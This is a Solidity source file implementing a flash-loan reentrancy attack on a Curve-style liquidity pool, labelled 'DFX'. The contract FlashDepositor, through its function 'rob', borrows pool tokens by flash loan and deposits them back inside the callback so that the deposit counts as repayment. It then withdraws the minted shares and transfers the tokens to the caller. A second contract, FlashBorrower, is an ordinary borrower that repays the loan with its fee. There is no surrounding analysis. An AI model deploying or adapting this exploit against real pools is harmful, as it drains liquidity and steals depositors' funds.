// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface ICurve {
    function viewDeposit(uint256 deposit) external view returns (uint256 curves, uint256[] memory amounts);
    function flash(address recipient, uint256 amount0, uint256 amount1, bytes calldata data) external;
    function deposit(uint256 amount, uint256 deadline) external returns (uint256, uint256[] memory);
    function withdraw(uint256 curves, uint256 deadline) external returns (uint256[] memory);
    function balanceOf(address owner) external view returns (uint256);
}

interface IERC20 {
    function balanceOf(address account) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
}

/// DFX: borrows by `flash` what a deposit takes, repays by that deposit, and withdraws it.
contract FlashDepositor {
    function rob(address curve, address token0, address token1, uint256 amount) external {
        IERC20(token0).approve(curve, type(uint256).max);
        IERC20(token1).approve(curve, type(uint256).max);
        (, uint256[] memory due) = ICurve(curve).viewDeposit(amount);
        ICurve(curve).flash(address(this), due[0] * 994 / 1000, due[1] * 994 / 1000, abi.encode(amount));
        ICurve(curve).withdraw(ICurve(curve).balanceOf(address(this)), block.timestamp + 60);
        IERC20(token0).transfer(msg.sender, IERC20(token0).balanceOf(address(this)));
        IERC20(token1).transfer(msg.sender, IERC20(token1).balanceOf(address(this)));
    }

    function flashCallback(uint256, uint256, bytes calldata data) external {
        ICurve(msg.sender).deposit(abi.decode(data, (uint256)), block.timestamp + 60);
    }
}

/// Borrows by `flash` for nothing in particular, and repays with the fee, out of what it has.
contract FlashBorrower {
    function borrow(address curve, address token0, address token1, uint256 amount0, uint256 amount1) external {
        ICurve(curve).flash(address(this), amount0, amount1, abi.encode(token0, token1, amount0, amount1));
    }

    function flashCallback(uint256 fee0, uint256 fee1, bytes calldata data) external {
        (address token0, address token1, uint256 amount0, uint256 amount1) =
            abi.decode(data, (address, address, uint256, uint256));
        IERC20(token0).transfer(msg.sender, amount0 + fee0);
        IERC20(token1).transfer(msg.sender, amount1 + fee1);
    }
}
